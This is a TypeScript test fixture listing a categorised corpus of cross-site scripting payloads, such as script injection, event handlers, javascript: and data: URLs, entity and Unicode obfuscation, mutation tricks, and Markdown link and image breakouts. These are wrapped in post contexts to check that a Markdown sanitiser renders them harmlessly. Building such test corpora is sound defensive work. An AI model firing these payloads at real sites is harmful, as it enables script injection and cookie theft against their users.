/**
 * Test-only: hostile post bodies. Drawn from the families in OWASP's XSS filter evasion cheat
 * sheet, published mutation-XSS tricks against sanitisers, and the ways Markdown itself can be
 * made to emit a dangerous link. Every one must render to something the audit finds clean.
 */

export interface XssPayload {
  kind: XssKind;
  payload: string;
}

export type XssKind =
  | 'raw html'
  | 'event handler'
  | 'url scheme in html'
  | 'entity or whitespace obfuscation'
  | 'foreign content and mutation'
  | 'css'
  | 'markdown link'
  | 'markdown autolink'
  | 'reference definition'
  | 'markdown image'
  | 'attribute breakout'
  | 'linkify'
  | 'unicode'
  | 'nested mix';

const JS_DECIMAL = '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;';
const JS_DECIMAL_PADDED = '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058';
const JS_HEX_NO_SEMICOLON = '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A';
const JS_HEX = '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;';

const payloads: Record<XssKind, readonly string[]> = {
  'raw html': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<SCRIPT SRC=https://xss.example/xss.js?< B >',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<form action="javascript:alert(1)"><input type="submit" value="Kirim"></form>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<base href="javascript:alert(1)//">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<script>alert(1)</script>]]>',
  ],
  'event handler': [
    '<img src=x onerror=alert(1)>',
    '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    '<IMG SRC= onmouseover="alert(\'xxs\')">',
    '<IMG onmouseover="alert(\'xxs\')">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<svg/onload=alert(\'XSS\')>',
    '<svg onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<body onload=alert(1)>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>Halo</marquee>',
    '<x onclick=alert(1)>klik</x>',
    '<p onclick="alert(1)">paragraf</p>',
    '<button formaction="javascript:alert(1)">Tombol</button>',
    '<img src=x:alert(alt) onerror=eval(src) alt=0>',
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank" style="color:red" class="x" id="y">ok</a>',
  ],
  'url scheme in html': [
    '<IMG SRC="javascript:alert(\'XSS\');">',
    '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  ],
  'entity or whitespace obfuscation': [
    `<IMG SRC=${JS_DECIMAL}alert('XSS')>`,
    `<IMG SRC=${JS_DECIMAL_PADDED}alert('XSS')>`,
    `<IMG SRC=${JS_HEX_NO_SEMICOLON}alert('XSS')>`,
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    `<a href="${JS_HEX}alert(1)">x</a>`,
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
  ],
  'foreign content and mutation': [
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea/><img src=x onerror=alert(1)>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  css: [
    '<style>@import \'https://xss.example/xss.css\';</style>',
    '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">klik di mana saja</span>',
  ],
  'markdown link': [
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](javascript&colon;alert(1))',
    `[x](${JS_DECIMAL}alert(1))`,
    `[x](${JS_HEX}alert(1))`,
    '[x](&#0000106avascript:alert(1))',
    '[x](jav&#x09;ascript:alert(1))',
    '[x](java&Tab;script:alert(1))',
    '[x](jav&#x0A;ascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](<jav ascript:alert(1)>)',
    '[x]( javascript:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/)',
    '[x](\\\\evil.example/)',
    '[x](/\\evil.example/)',
    '[x](https:evil.example)',
    '[x](https://bank.example@evil.example/)',
    '[x](mailto:warga@example.com"onclick="alert(1))',
  ],
  'markdown autolink': [
    '<javascript:alert(1)>',
    '<JAVASCRIPT:alert(1)>',
    '<vbscript:msgbox(1)>',
    '<data:text/html,<script>alert(1)</script>>',
    '<file:///etc/passwd>',
    '<jav&#x09;ascript:alert(1)>',
  ],
  'reference definition': [
    '[x][r]\n\n[r]: javascript:alert(1)',
    '[x][r]\n\n[r]: <javascript:alert(1)> "judul"',
    '[x]\n\n[x]: &#106;avascript:alert(1)',
    '[x]\n\n[x]: JAVASCRIPT:alert(1)',
    '[x]\n\n[x]: https://ok.example/ "judul\\" onmouseover=\\"alert(1)"',
    '![x][r]\n\n[r]: javascript:alert(1)',
  ],
  'markdown image': [
    '![x](javascript:alert(1))',
    '![x](JaVaScRiPt:alert(1))',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
    '![x](https://ok.example/x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](https://ok.example/x.png)',
    '![<img src=x onerror=alert(1)>](https://ok.example/x.png)',
    '![x](https://ok.example/x.png "judul\\" onerror=\\"alert(1)")',
    '[![x](javascript:alert(1))](javascript:alert(2))',
    '[![x](https://ok.example/x.png)](javascript:alert(2))',
  ],
  'attribute breakout': [
    '"><script>alert(1)</script>',
    '\'><img src=x onerror=alert(1)>',
    '[x](https://ok.example/ "judul\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    '[x](https://ok.example/\'><script>alert(1)</script>)',
    '[x](<https://ok.example/"><script>alert(1)</script>>)',
    '```"><script>alert(1)</script>\nkode\n```',
    '``` onmouseover=alert(1)\nkode\n```',
    '| a | b |\n|:-\'onmouseover=alert(1) x| b |\n| 1 | 2 |',
  ],
  linkify: [
    'https://ok.example/<script>alert(1)</script>',
    'http://ok.example/?q="><svg onload=alert(1)>',
    'www.ok.example/"onmouseover="alert(1)',
    'warga@example.com"onmouseover="alert(1)',
    'javascript:alert(1)//https://ok.example/',
    'lihat javascript://ok.example/%0Aalert(1)',
  ],
  unicode: [
    '[x](java\u2028script:alert(1))',
    '[x](java\u2029script:alert(1))',
    '[x](\uFF4A\uFF41\uFF56\uFF41\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54:alert(1))',
    '[x](javascript\uFF1Aalert(1))',
    '[x](https://ok.example/)\u2028<script>alert(1)</script>',
    '<a href="java\u2028script:alert(1)">x</a>',
    '\uFEFF<script>alert(1)</script>',
    '<sc\u0000ript>alert(1)</script>',
  ],
  'nested mix': [
    '**<script>alert(1)</script>**',
    '`<script>alert(1)</script>`',
    '```html\n<script>alert(1)</script>\n```',
    '> <iframe src=javascript:alert(1)>',
    '- <svg onload=alert(1)>',
    '# <style>body{display:none}</style>',
    '| <img src=x onerror=alert(1)> | b |\n|-|-|\n| <script>alert(1)</script> | c |',
    '[<img src=x onerror=alert(1)>](https://ok.example/)',
    '[x](https://ok.example/)<!-- --><script>alert(1)</script>',
    '\\<script>alert(1)\\</script>',
    '*<a href="javascript:alert(1)">*x*</a>*',
    '> - [x](javascript:alert(1))\n>   ![y](javascript:alert(2))',
    '<a href="https://ok.example/" rel="opener">x</a>',
  ],
};

export const XSS_CORPUS: readonly XssPayload[] = Object.entries(payloads).flatMap(([kind, list]) =>
  list.map((payload) => ({ kind: kind as XssKind, payload })),
);

/** Places a payload can sit in a post; each puts it through a different parser path. */
export const XSS_CONTEXTS: ReadonlyArray<{ name: string; wrap: (payload: string) => string }> = [
  { name: 'alone', wrap: (p) => p },
  { name: 'mid-paragraph', wrap: (p) => `Menurut saya ${p} begitu.` },
  { name: 'blockquote', wrap: (p) => `> ${p}` },
  { name: 'list item', wrap: (p) => `1. ${p}` },
  { name: 'table cell', wrap: (p) => `| a |\n|---|\n| ${p.replace(/\n/g, ' ')} |` },
  { name: 'link text', wrap: (p) => `[${p}](https://ok.example/)` },
];
